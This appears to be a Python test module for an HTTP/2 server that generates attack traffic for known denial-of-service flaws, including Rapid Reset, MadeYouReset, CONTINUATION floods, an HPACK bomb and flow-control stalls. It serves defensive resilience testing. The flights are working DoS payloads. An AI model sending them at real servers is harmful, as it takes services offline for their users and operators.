"""What attackers send: each flight is one connection's octets, piece by piece."""

from collections.abc import Callable, Iterator

from tests.protocol.http2 import frames as f

Flight = Callable[[], Iterator[bytes]]

CANCEL = (8).to_bytes(4, "big")
WIDE_OPEN = f.frame(f.WINDOW_UPDATE, 0, 0, (0x7FFF0000).to_bytes(4, "big"))
STREAMS = range(1, 6001, 2)


def rapid_resets() -> Iterator[bytes]:
    """CVE-2023-44487: the answers are slow, so that each request that gets through stays with its endpoint."""
    yield f.opening()
    for stream in STREAMS:
        yield f.headers(stream, f.request(b"GET", b"/slow")) + f.frame(f.RST_STREAM, 0, stream, CANCEL)


def resets_at_once() -> Iterator[bytes]:
    """The same in as few segments as can be."""
    yield b"".join(rapid_resets())


def made_you_reset() -> Iterator[bytes]:
    """CVE-2025-8671: a body is longer than its request said, which we have to answer with RST_STREAM."""
    yield f.opening()
    for stream in STREAMS:
        yield f.headers(stream, f.request(b"POST", b"/slow", (b"content-length", b"1")), f.END_HEADERS)
        yield f.frame(f.DATA, 0, stream, b"xx")


def continuations() -> Iterator[bytes]:
    """VU#421644: a header section that never ends."""
    yield f.opening() + f.frame(f.HEADERS, f.END_STREAM, 1, f.block(f.request()))
    for _ in range(2000):
        yield f.frame(f.CONTINUATION, 0, 1, f.literals([(b"x", b"y" * 16_000)]))


def hpack_bomb() -> Iterator[bytes]:
    """One long value in the table, named again and again: 16 KiB that stand for 60 MiB."""
    request = f.literals(f.request())
    yield f.opening()
    for stream in range(1, 101, 2):
        head = request + f.literals([(b"a", b"x" * 4000)], kind=0x40)
        yield f.frame(f.HEADERS, f.END_STREAM | f.END_HEADERS, stream, head + b"\xbe" * (16_000 - len(head)))


def repeated(octets: bytes, times: int = 100_000) -> Flight:
    """A small frame without end; nothing of what comes back is read. Stream 1 is a request whose body is to come, and
    which is not answered before: then frames for it would be late ones, which nobody counts."""

    def flight() -> Iterator[bytes]:
        yield f.opening() + f.headers(1, f.request(b"POST", b"/slow"), f.END_HEADERS)
        for _ in range(times // 1000):
            yield octets * 1000

    return flight


def closed_stream() -> Iterator[bytes]:
    """A body for a stream that has been taken back, as long as a client may send that hears of no window."""
    yield f.opening() + f.headers(1, f.request(b"POST"), f.END_HEADERS) + f.frame(f.RST_STREAM, 0, 1, CANCEL)
    for _ in range(2000):
        yield f.frame(f.DATA, 0, 1, b"x" * 500)


def zero_window() -> Iterator[bytes]:
    """As many answers of 1 MiB as one may ask for, and no octet of them is let through."""
    yield f.opening(INITIAL_WINDOW_SIZE=0) + WIDE_OPEN + big_answers()


def slow_reader() -> Iterator[bytes]:
    """The same with windows wide open, and nothing is read."""
    yield f.opening(INITIAL_WINDOW_SIZE=0x7FFFFFFF) + WIDE_OPEN + big_answers()


def big_answers() -> bytes:
    return b"".join(f.headers(stream, f.request(b"GET", b"/big")) for stream in range(1, 201, 2))


def half_a_preface() -> Iterator[bytes]:
    yield f.PREFACE[:10]
